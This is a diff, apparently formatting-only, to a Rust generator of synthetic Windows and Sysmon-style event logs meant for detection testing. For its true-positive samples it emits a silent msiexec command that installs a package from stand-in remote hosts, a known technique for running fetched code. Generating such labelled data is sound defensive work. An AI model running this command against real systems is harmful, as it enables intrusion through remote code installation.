@@ -124,20 +124,39 @@ const PARENTS: &[(&str, &str)] = &[
     ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"),
     ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
     ("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\""),
-    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy Bypass"),
+    (
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy Bypass",
+    ),
     ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""),
 ];
 
 const DLLS: &[&str] = &[
-    "C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\kernel32.dll", "C:\\Windows\\System32\\KernelBase.dll",
-    "C:\\Windows\\System32\\advapi32.dll", "C:\\Windows\\System32\\crypt32.dll", "C:\\Windows\\System32\\wininet.dll",
-    "C:\\Windows\\System32\\amsi.dll", "C:\\Windows\\System32\\clr.dll", "C:\\Windows\\System32\\samlib.dll",
-    "C:\\Windows\\System32\\vaultcli.dll", "C:\\Windows\\System32\\wldp.dll", "C:\\Windows\\System32\\dbghelp.dll",
+    "C:\\Windows\\System32\\ntdll.dll",
+    "C:\\Windows\\System32\\kernel32.dll",
+    "C:\\Windows\\System32\\KernelBase.dll",
+    "C:\\Windows\\System32\\advapi32.dll",
+    "C:\\Windows\\System32\\crypt32.dll",
+    "C:\\Windows\\System32\\wininet.dll",
+    "C:\\Windows\\System32\\amsi.dll",
+    "C:\\Windows\\System32\\clr.dll",
+    "C:\\Windows\\System32\\samlib.dll",
+    "C:\\Windows\\System32\\vaultcli.dll",
+    "C:\\Windows\\System32\\wldp.dll",
+    "C:\\Windows\\System32\\dbghelp.dll",
 ];
 
 const DOMAINS: &[&str] = &[
-    "www.google.com", "login.microsoftonline.com", "outlook.office365.com", "github.com", "update.googleapis.com",
-    "settings-win.data.microsoft.com", "slack.com", "api.github.com", "dc01.corp.example.com", "wpad.corp.example.com",
+    "www.google.com",
+    "login.microsoftonline.com",
+    "outlook.office365.com",
+    "github.com",
+    "update.googleapis.com",
+    "settings-win.data.microsoft.com",
+    "slack.com",
+    "api.github.com",
+    "dc01.corp.example.com",
+    "wpad.corp.example.com",
 ];
 
 const REG_KEYS: &[&str] = &[
@@ -288,12 +307,17 @@ impl Generator {
         let domuser = format!("CORP\\{user}");
         let (img, ofn, desc, cmd_t) = *self.rng.pick(PROCESSES);
         let cmd = if tp {
-            let site = self.rng.pick(&["cdn-dl.example-updates.net", "198.51.100.23", "github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/src"]);
+            let site = self.rng.pick(&[
+                "cdn-dl.example-updates.net",
+                "198.51.100.23",
+                "github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/src",
+            ]);
             format!("msiexec.exe /q /i http://{}/pkg_{}.msi", site, self.rng.below(10_000))
         } else {
             self.fill(cmd_t, &user, &sid)
         };
-        let (img, ofn, desc) = if tp { ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows® installer") } else { (img, ofn, desc) };
+        let (img, ofn, desc) =
+            if tp { ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows® installer") } else { (img, ofn, desc) };
         let (pimg, pcmd) = *self.rng.pick(PARENTS);
         let pid = 1000 + self.rng.below(20_000);
         let guid = self.rng.guid();
@@ -318,7 +342,10 @@ impl Generator {
                 put("LogonId", format!("0x{}", self.rng.hex(5)));
                 put("TerminalSessionId", "1".into());
                 put("IntegrityLevel", self.rng.pick(&["Medium", "High", "System"]).to_string());
-                put("Hashes", format!("MD5={},SHA256={},IMPHASH={}", self.rng.hex_upper(32), self.rng.hex_upper(64), self.rng.hex_upper(32)));
+                put(
+                    "Hashes",
+                    format!("MD5={},SHA256={},IMPHASH={}", self.rng.hex_upper(32), self.rng.hex_upper(64), self.rng.hex_upper(32)),
+                );
                 put("ParentProcessGuid", self.rng.guid());
                 put("ParentProcessId", (500 + self.rng.below(9000)).to_string());
                 put("ParentImage", pimg.into());
@@ -340,7 +367,10 @@ impl Generator {
                 put("SourcePort", (49152 + self.rng.below(16000)).to_string());
                 put("SourcePortName", "-".into());
                 put("DestinationIsIpv6", "false".into());
-                put("DestinationIp", format!("{}.{}.{}.{}", 13 + self.rng.below(200), self.rng.below(255), self.rng.below(255), 1 + self.rng.below(250)));
+                put(
+                    "DestinationIp",
+                    format!("{}.{}.{}.{}", 13 + self.rng.below(200), self.rng.below(255), self.rng.below(255), 1 + self.rng.below(250)),
+                );
                 put("DestinationHostname", self.rng.pick(DOMAINS).to_string());
                 put("DestinationPort", "443".into());
                 put("DestinationPortName", "https".into());
@@ -369,7 +399,16 @@ impl Generator {
                 put("Product", "Microsoft® Windows® Operating System".into());
                 put("Company", "Microsoft Corporation".into());
                 put("OriginalFileName", base);
-                put("Hashes", format!("SHA1={},MD5={},SHA256={},IMPHASH={}", self.rng.hex_upper(40), self.rng.hex_upper(32), self.rng.hex_upper(64), self.rng.hex_upper(32)));
+                put(
+                    "Hashes",
+                    format!(
+                        "SHA1={},MD5={},SHA256={},IMPHASH={}",
+                        self.rng.hex_upper(40),
+                        self.rng.hex_upper(32),
+                        self.rng.hex_upper(64),
+                        self.rng.hex_upper(32)
+                    ),
+                );
                 put("Signed", "true".into());
                 put("Signature", "Microsoft Windows".into());
                 put("SignatureStatus", "Valid".into());
@@ -387,7 +426,14 @@ impl Generator {
                 put("TargetProcessId", (500 + self.rng.below(9000)).to_string());
                 put("TargetImage", pimg.into());
                 put("GrantedAccess", self.rng.pick(&["0x1000", "0x1410", "0x101000", "0x1fffff"]).to_string());
-                put("CallTrace", format!("C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+{}|UNKNOWN({})", self.rng.hex(5), self.rng.hex(16)));
+                put(
+                    "CallTrace",
+                    format!(
+                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+{}|UNKNOWN({})",
+                        self.rng.hex(5),
+                        self.rng.hex(16)
+                    ),
+                );
                 put("SourceUser", domuser);
                 put("TargetUser", "NT AUTHORITY\\SYSTEM".into());
             }
@@ -426,7 +472,16 @@ impl Generator {
                 put("ProcessId", pid.to_string());
                 put("QueryName", q);
                 put("QueryStatus", "0".into());
-                put("QueryResults", format!("type:  5 edge.example.net;::ffff:{}.{}.{}.{};", 13 + self.rng.below(200), self.rng.below(255), self.rng.below(255), 1 + self.rng.below(250)));
+                put(
+                    "QueryResults",
+                    format!(
+                        "type:  5 edge.example.net;::ffff:{}.{}.{}.{};",
+                        13 + self.rng.below(200),
+                        self.rng.below(255),
+                        self.rng.below(255),
+                        1 + self.rng.below(250)
+                    ),
+                );
                 put("Image", img.into());
                 put("User", domuser);
             }
@@ -506,7 +561,10 @@ impl Generator {
                 put("SubjectUserName", user.clone());
                 put("SubjectDomainName", "CORP".into());
                 put("SubjectLogonId", format!("0x{}", self.rng.hex(6)));
-                put("PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege".into());
+                put(
+                    "PrivilegeList",
+                    "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege".into(),
+                );
             }
         }
         ev
